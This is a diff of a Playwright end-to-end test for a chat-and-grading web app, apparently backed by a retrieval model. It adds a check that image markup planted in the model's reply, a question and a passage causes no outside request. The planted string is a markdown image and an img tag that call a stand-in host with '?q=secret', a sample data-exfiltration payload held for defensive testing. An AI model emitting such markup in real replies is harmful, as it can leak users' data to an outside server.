@@ -1,13 +1,17 @@
 """The app in a real browser (Debian chromium via Playwright), end to end with a scripted model:
-log in, ask a catalog question and watch the answer stream in, see its source card, grade the
-answer, make a blind pairwise pick, and find both in the grades database. A screenshot of each
-tab is kept as a test artifact (test-artifacts/ui-*.png; `CAIRN_UI_SHOTS=docs/img` writes the
-README's copies there instead)."""
+log in, ask a catalog question and see a neutral line while the answer is written and verified
+(the default `remove` policy shows no unverified text), then the answer and its source card;
+grade the answer, make a blind pairwise pick, and find both in the grades database. Markup that
+loads images, planted in the model's reply, a question and a passage, must not make the page
+fetch anything: no request leaves this machine. A screenshot of each tab is kept as a test
+artifact (test-artifacts/ui-*.png; `CAIRN_UI_SHOTS=docs/img` writes the README's copies there
+instead)."""
 from __future__ import annotations
 
 import os
 import time
 from pathlib import Path
+from urllib.parse import urlparse
 
 import pytest
 
@@ -19,9 +23,12 @@ from browser import launch_chromium, save_artifact, sync_playwright
 from evals.grading.records import Item, Passage
 from nightly_world import run_world, world_config
 
+HOST = "198.51.100.7"  # a documentation address (TEST-NET-2): a request to it is a leak, never a server
+PLANTED = f'![poster](http://{HOST}/md.png?q=secret) <img src="http://{HOST}/img.png">'
 REPLY = ("Deep Blue is a 2023 documentary about the ocean and the whales that cross it [1]. "
-         "Tide Pools looks at the crabs of the ocean shore [2].")
+         f"Tide Pools looks at the crabs of the ocean shore [2]. {PLANTED} [2].")
 QUESTION = "Which documentaries are about the ocean?"
+LOCAL = {"127.0.0.1", "localhost", "::1"}
 SHOTS = os.environ.get("CAIRN_UI_SHOTS")  # read at import: the autouse fixture clears CAIRN_* variables
 
 
@@ -45,8 +52,10 @@ def served(kbs, cairn_home):
                             open_kb=kbs.__getitem__)
     store = services.grades()
     for system, answer in (("base", "Deep Blue [1]."), ("base+sft", "Deep Blue and Tide Pools [1][2].")):
-        store.add_item(Item(question="Ocean documentaries?", answer=answer, collection="catalog", system=system,
-                            contexts=(Passage(1, "d1", "d1#0", "Deep Blue: the ocean."),), cited_ids=("d1",)))
+        store.add_item(Item(question=f"Ocean documentaries? {PLANTED}", answer=f"{answer} {PLANTED}",
+                            collection="catalog", system=system,
+                            contexts=(Passage(1, "d1", "d1#0", f"Deep Blue: the ocean. {PLANTED}"),),
+                            cited_ids=("d1",)))
     demo = app.build_demo(services)
     demo.queue(default_concurrency_limit=1).launch(
         server_name="127.0.0.1", server_port=None, prevent_thread_lock=True, quiet=True,
@@ -73,18 +82,22 @@ def test_login_chat_grade_and_compare_in_chromium(served, tmp_path):
             page = browser.new_page(viewport={"width": 1280, "height": 1000})
             errors: list[str] = []
             page.on("pageerror", lambda e: errors.append(str(e)))
+            requested: list[str] = []
+            page.on("request", lambda r: requested.append(r.url))
             page.goto(url)
             page.get_by_label("username").fill("ada")
             page.get_by_label("password").fill("correct horse battery")
             page.get_by_role("button", name="Login").click()
             page.get_by_text("Signed in as ada (admin)").wait_for(timeout=30_000)
 
-            # chat: the answer streams (partial text first), then the verified answer and a source card
+            # chat: a neutral line while the answer is written, then the verified answer and a source card
             page.locator("#question textarea").fill(QUESTION)
             page.locator("#question textarea").press("Enter")
             bot = page.locator("#chatbot")
-            page.wait_for_function("() => { const t = document.querySelector('#chatbot').innerText; "
-                                   "return t.includes('Deep Blue') && !t.includes('Tide Pools'); }", timeout=30_000)
+            writing = page.wait_for_function(  # one read of the page: the line and what else it shows
+                "() => { const t = document.querySelector('#chatbot').innerText; "
+                "return t.includes('Writing the answer') && {text: t}; }", timeout=30_000).json_value()
+            assert "Deep Blue" not in writing["text"]  # no unverified text while it is written
             page.locator("#source-cards .cairn-card").first.wait_for(timeout=30_000)
             assert "Tide Pools" in bot.inner_text()
             card = page.locator("#source-1")
@@ -131,6 +144,9 @@ def test_login_chat_grade_and_compare_in_chromium(served, tmp_path):
         finally:
             browser.close()
     assert not errors, errors
+    leaked = [u for u in requested if urlparse(u).scheme in ("http", "https", "ws", "wss")
+              and urlparse(u).hostname not in LOCAL]
+    assert not leaked, f"the page fetched from outside this machine: {leaked}"
     grades = store.grades(role="admin")
     assert len(grades) == 1 and grades[0].grader == "ada" and grades[0].corrected_answer.startswith("Deep Blue [1]")
     (verdict,) = store.pairwise(role="admin")
